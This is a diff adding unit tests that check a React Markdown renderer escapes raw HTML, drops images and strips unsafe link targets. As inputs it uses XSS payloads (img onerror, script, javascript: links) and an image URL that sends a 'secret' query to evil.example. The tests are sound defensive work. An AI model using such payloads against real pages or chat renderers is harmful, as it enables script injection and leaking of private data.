@@ -1,0 +1,34 @@
+import { renderToStaticMarkup } from 'react-dom/server';
+import { describe, expect, it } from 'vitest';
+import { Markdown } from './markdown.tsx';
+
+const render = (text: string) => renderToStaticMarkup(<Markdown isWriting={false} text={text} />);
+
+describe('Markdown', () => {
+  it('renders text, code and lists', () => {
+    const html = render('# Title\n\n**bold** and `code`\n\n- one');
+    expect(html).toContain('Title');
+    expect(html).toContain('<code');
+    expect(html).toContain('<li');
+  });
+
+  it('shows HTML as text', () => {
+    const html = render('<img src=x onerror=alert(1)> <script>alert(1)</script>\n\n<iframe src="https://a.example"></iframe>');
+    expect(html).not.toMatch(/<(?:img|script|iframe)/);
+    expect(html).toContain('&lt;script&gt;');
+  });
+
+  it('loads no images', () => {
+    const html = render('![secret](https://evil.example/?q=secret) ![inline](data:image/png;base64,AAAA) ![own](/api/x)');
+    expect(html).not.toContain('<img');
+    expect(html).not.toContain('evil.example');
+  });
+
+  it('keeps links to the web and to mail, and takes the target of all others', () => {
+    const html = render('[web](https://a.example/b) [mail](mailto:a@b.example)');
+    expect(html).toContain('href="https://a.example/b"');
+    expect(html).toContain('href="mailto:a@b.example"');
+    for (const target of ['javascript:alert(1)', 'data:text/html,x', 'file:///etc', '/api/x', '//evil.example', 'tel:1', 'blob:x'])
+      expect(render(`[x](${target})`), target).not.toContain('href=');
+  });
+});
